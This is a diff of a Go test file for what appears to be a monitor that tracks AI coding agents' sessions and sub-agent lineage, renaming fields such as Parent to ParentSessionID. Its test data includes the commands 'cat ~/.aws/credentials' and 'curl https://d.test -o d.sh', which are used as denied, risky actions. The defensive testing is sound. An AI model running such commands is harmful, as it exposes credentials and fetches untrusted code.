@@ -25,7 +25,7 @@ func parentsKnow(t *testing.T, s *Store) {
 		{grandchild, "c", "cat ~/.aws/credentials"},
 		{grandchild, "c", "curl https://d.test -o d.sh"},
 	} {
-		memory := s.Load(t.Context(), step.key, Lineage{Parent: step.parent}, "")
+		memory := s.Load(t.Context(), step.key, Lineage{ParentSessionID: step.parent}, "")
 		d := DeltaOfAction(analyzer.CaseWithSessionState(parse(t, step.raw), memory), nil, false)
 		d.Denial = &Denial{ActionHash: step.raw}
 		if err := s.Add(t.Context(), memory, &d); err != nil {
@@ -45,13 +45,13 @@ func parentsKnow(t *testing.T, s *Store) {
 		}
 	}
 	for _, raw := range []string{"a.sh", "c.sh"} {
-		if len(s.Load(t.Context(), grandchild, Lineage{Parent: "c"}, "").FileOriginLabels("/work/app/"+raw)) == 0 {
+		if len(s.Load(t.Context(), grandchild, Lineage{ParentSessionID: "c"}, "").FileOriginLabels("/work/app/"+raw)) == 0 {
 			t.Errorf("a sub-agent does not know %s", raw)
 		}
 	}
 	// a host that names a session as its own parent, or a circle, ends
 	for key, parent := range map[Key]string{{"copilot", "x", "me"}: "y", {"copilot", "y", "me"}: "x", {"copilot", "z", "me"}: "z"} {
-		memory := s.Load(t.Context(), key, Lineage{Parent: parent}, "")
+		memory := s.Load(t.Context(), key, Lineage{ParentSessionID: parent}, "")
 		d := DeltaOfAction(analyzer.CaseWithSessionState(parse(t, "cat ~/.aws/credentials"), memory), nil, false)
 		if err := s.Add(t.Context(), memory, &d); err != nil {
 			t.Fatal(err)
@@ -90,7 +90,7 @@ func TestParentByProcess(t *testing.T) {
 			{Key{"claude-code", "none", "me"}, "ls", nil, "[]"},
 		} {
 			if got := began(c.key, c.raw, c.processes...); got != c.want {
-				t.Errorf("%s %s: labels %s, want %s", c.key.Host, c.key.ID, got, c.want)
+				t.Errorf("%s %s: labels %s, want %s", c.key.AgentHostName, c.key.ID, got, c.want)
 			}
 			w.now = w.now.Add(time.Second)
 		}
